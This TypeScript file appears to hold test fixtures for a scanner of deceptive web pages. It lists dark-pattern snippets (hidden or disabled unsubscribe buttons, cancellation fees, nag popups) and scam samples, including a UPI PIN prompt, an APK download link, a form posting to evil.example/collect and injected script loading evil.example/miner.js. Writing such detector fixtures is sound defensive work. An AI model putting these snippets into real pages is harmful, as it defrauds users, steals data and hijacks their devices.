import { html, type Mutant } from "./mutant";

export const subscriptionTrap: Mutant[] = html(
  "<p>To cancel, call our branch between 10 and 5.</p>",
  "<p>Write to us to withdraw your consent.</p>",
  "<p>A cancellation fee of ₹499 is due.</p>",
  "<p>This cannot be cancelled.</p>",
  "<p>रद्द करने के लिए शाखा में आएँ।</p>",
  "<p>बंद करने का शुल्क ₹250 है।</p>",
  "<button type=button style='font-size:7px;height:14px;min-height:0;padding:0'>Unsubscribe</button>",
  "<button type=button disabled>Withdraw my consent</button>",
  "<form method=post><label>Reason <input name=reason required></label><label>Letter <input name=letter required></label><button>Stop all messages</button></form>",
  "<button type=button style='color:#e5e5e5;background:#fff'>सहमति वापस लें</button>",
);

export const nagging: Mutant[] = [
  ...html(
    "<div role=dialog aria-label=n>Get our newsletter <button type=button>OK</button></div>",
    "<div style='position:fixed;inset:auto 0 0 0;height:60vh;background:#fff'>Take a loan today</div>",
    "<button type=button>Maybe later</button>",
    "<button type=button>बाद में</button>",
    "<p>Wait! Before you go, look at this.</p>",
    "<p>क्या आप वाकई छोड़ना चाहते हैं?</p>",
    "<form method=post><label><input type=checkbox name=news> Send me news</label><label><input type=checkbox name=news> Send me news</label></form>",
  ),
  { html: "", act: 'window.alert("Are you there?")' },
  { html: "", act: 'window.addEventListener("beforeunload", () => {})' },
  { html: "", act: "navigator.geolocation?.getCurrentPosition(() => {}, () => {})" },
];

export const rogueMalware: Mutant[] = [
  ...html(
    "<p>Your phone is infected with a virus.</p>",
    "<p>Update your browser to go on.</p>",
    "<p>आपके फ़ोन में वायरस है।</p>",
    "<p>यूपीआई पिन डालें।</p>",
    "<a href='/loan-helper.apk'>Helper</a>",
    "<a href='javascript:void(0)'>Verify</a>",
    "<iframe src='https://evil.example/frame' title=f></iframe>",
    "<form method=post action='https://evil.example/collect'><label>Name <input name=n></label></form>",
  ),
  {
    html: "",
    act: 'document.querySelector("main").lastElementChild.append(Object.assign(document.createElement("script"), { src: "https://evil.example/miner.js" }))',
  },
  { html: "", act: "void WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {})" },
];
